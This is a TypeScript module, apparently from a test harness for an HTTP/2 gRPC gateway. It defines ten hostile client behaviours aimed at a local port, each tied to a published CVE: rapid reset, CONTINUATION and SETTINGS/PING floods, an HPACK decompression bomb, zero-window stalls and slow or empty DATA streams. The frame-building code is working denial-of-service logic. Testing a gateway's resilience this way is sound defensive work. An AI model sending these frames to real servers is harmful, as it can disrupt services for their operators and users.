/**
 * Hostile callers, one function each: what they send at first and what they send on every tick, bounded so that the attack costs the
 * attacker's core little and the gateway, if it is careless, much. Must not know how the gateway answers. Runs once per tick.
 * Governed by RFC 9113 and RFC 7541; each attack names the advisory or section it is after.
 */
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  FRAME_HEADER,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  PING,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  settingsFrame,
  windowUpdateFrame,
  writeFrameHeader,
} from "../load/frames.js";
import { HeaderEncoder, SentField } from "../load/header-encoder.js";
import { givePath, TAKE_PATH } from "../load/message.js";

export interface Attack {
  readonly name: string;
  readonly about: string;
  /** `port` belongs into `:authority`. */
  readonly begin: (attacker: Attacker) => Buffer[];
  readonly tick: (attacker: Attacker) => Buffer[];
}

/** What an attack remembers on one connection. */
export class Attacker {
  readonly encoder = new HeaderEncoder();
  readonly port: number;
  stream = -1;

  constructor(port: number) {
    this.port = port;
  }

  nextStream(): number {
    this.stream += 2;
    return this.stream;
  }

  request(path: string, flags = END_HEADERS): Buffer {
    const fields = [
      new SentField(":method", "POST"),
      new SentField(":scheme", "http"),
      new SentField(":path", path),
      new SentField(":authority", `127.0.0.1:${this.port}`),
      new SentField("content-type", "application/grpc"),
      new SentField("te", "trailers"),
    ];
    const block = Buffer.alloc(1024);
    const length = this.encoder.encode(fields, block, 0);
    return frame(HEADERS, flags, this.nextStream(), block.subarray(0, length));
  }
}

export const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const bytes = Buffer.alloc(FRAME_HEADER + payload.length);
  payload.copy(bytes, writeFrameHeader(bytes, 0, payload.length, type, flags, stream));
  return bytes;
};

/** `x: y`, spelled out. */
const SMALL_FIELD = Buffer.from([0x00, 1, 0x78, 1, 0x79]);
const NOTHING = Buffer.alloc(0);
const HELLO = Buffer.concat([Buffer.from(PREFACE, "latin1"), settingsFrame([])]);
const code = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const times = (count: number, make: () => Buffer): Buffer[] => Array.from({ length: count }, make);
const CANCEL = 8;
const SMALL = givePath(1, 12);

/** A field of 4,000 bytes goes into the table once; then one byte each names it again, four thousand times a frame. */
const bombInsert = (): Buffer => {
  const value = Buffer.alloc(4000, "a");
  // 0x40: literal with a new name, indexed; 127 + (4000 − 127) as a 7-bit prefixed integer is 0x7f 0xa1 0x1e.
  return Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), value]);
};
const BOMB_REFERENCES = Buffer.alloc(12_000, 0xbe);

export const ATTACKS: readonly Attack[] = [
  {
    name: "rapid-reset",
    about: "calls begun and cancelled at once (CVE-2023-44487)",
    begin: () => [HELLO],
    tick: (attacker) =>
      times(100, () => Buffer.concat([attacker.request(SMALL), frame(RST_STREAM, 0, attacker.stream, code(CANCEL))])),
  },
  {
    name: "continuation-flood",
    about: "a header block that never ends (CVE-2024-24549 and its kin)",
    begin: (attacker) => [HELLO, attacker.request(SMALL, 0)],
    tick: (attacker) =>
      times(20, () => frame(CONTINUATION, 0, attacker.stream, Buffer.concat(times(100, () => SMALL_FIELD)))),
  },
  {
    name: "settings-flood",
    about: "SETTINGS that each want an ACK (CVE-2019-9515)",
    begin: () => [HELLO],
    tick: () => times(500, () => frame(SETTINGS, 0, 0, NOTHING)),
  },
  {
    name: "ping-flood",
    about: "PINGs that each want an answer (CVE-2019-9512)",
    begin: () => [HELLO],
    tick: () => times(500, () => frame(PING, 0, 0, Buffer.alloc(8))),
  },
  {
    name: "hpack-bomb",
    about: "a small block that unfolds into a huge list (CVE-2016-6581)",
    begin: (attacker) => [HELLO, frame(HEADERS, END_HEADERS | END_STREAM, attacker.nextStream(), bombInsert())],
    tick: (attacker) => [frame(HEADERS, END_HEADERS | END_STREAM, attacker.nextStream(), BOMB_REFERENCES)],
  },
  {
    name: "zero-window",
    about: "large answers asked for and never taken (CVE-2019-9517)",
    begin: (attacker) => [
      Buffer.concat([Buffer.from(PREFACE, "latin1"), settingsFrame([[INITIAL_WINDOW_SIZE, 0]])]),
      ...times(100, () =>
        Buffer.concat([attacker.request(givePath(1, 1 << 20)), frame(DATA, END_STREAM, attacker.stream, NOTHING)]),
      ),
    ],
    tick: () => [],
  },
  {
    name: "slow-headers",
    about: "a header block that comes one field a tick",
    begin: (attacker) => [HELLO, attacker.request(SMALL, 0)],
    tick: (attacker) => [frame(CONTINUATION, 0, attacker.stream, SMALL_FIELD)],
  },
  {
    name: "empty-data",
    about: "DATA frames without data (CVE-2019-9518)",
    begin: (attacker) => [HELLO, attacker.request(TAKE_PATH)],
    tick: (attacker) => times(500, () => frame(DATA, 0, attacker.stream, NOTHING)),
  },
  {
    name: "tiny-data",
    about: "an endless request, one byte a frame",
    begin: (attacker) => [HELLO, attacker.request(TAKE_PATH)],
    tick: (attacker) => times(200, () => frame(DATA, 0, attacker.stream, Buffer.alloc(1))),
  },
  {
    name: "provoked-resets",
    about: "calls that make the other side reset them (CVE-2025-8671)",
    begin: () => [HELLO],
    tick: (attacker) =>
      times(100, () => Buffer.concat([attacker.request(SMALL), windowUpdateFrame(attacker.stream, 0)])),
  },
];
